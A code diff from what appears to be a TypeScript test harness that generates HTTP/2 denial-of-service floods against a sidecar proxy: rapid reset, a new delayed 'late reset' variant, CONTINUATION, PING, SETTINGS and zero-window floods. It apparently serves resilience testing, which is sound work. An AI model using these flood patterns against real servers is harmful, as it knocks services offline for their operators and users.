@@ -61,9 +61,16 @@ function flood(first: Buffer, piece: (turn: number) => Buffer): Part {
 
 const NOTHING = Buffer.alloc(0)
 
-function rapidReset(token?: string): Part {
-  return flood(NOTHING, (turn) => Buffer.concat([get(2 * turn + 1, '/', token), reset(2 * turn + 1)]))
-}
+/** Broken off together with the request, which costs the attacker the least. */
+const rapidReset: Part = flood(NOTHING, (turn) =>
+  Buffer.concat([get(2 * turn + 1, '/'), reset(2 * turn + 1)]),
+)
+
+/** Broken off once the sidecar has had time to send the request on. */
+const lateReset: Part = flood(NOTHING, (turn) => {
+  const asked = get(2 * turn + 1, '/', plan.token)
+  return turn < AT_ONCE ? asked : Buffer.concat([reset(2 * (turn - AT_ONCE) + 1), asked])
+})
 
 const zeroWindows: Part = {
   protocol: 'h2',
@@ -73,8 +80,8 @@ const zeroWindows: Part = {
 const PARTS: Readonly<Record<AttackKind, (connection: number) => Part>> = {
   // Half of them each.
   idle: (connection) => IDLE[connection % 2 === 0 ? 'h2' : 'http/1.1'],
-  'rapid reset': () => rapidReset(),
-  'rapid reset with a token': () => rapidReset(plan.token),
+  'rapid reset': () => rapidReset,
+  'rapid reset with a token': () => lateReset,
   CONTINUATION: () => flood(beginning(1), () => continuation(1)),
   PING: () => flood(NOTHING, () => PINGED),
   SETTINGS: () => flood(NOTHING, () => NO_SETTINGS),
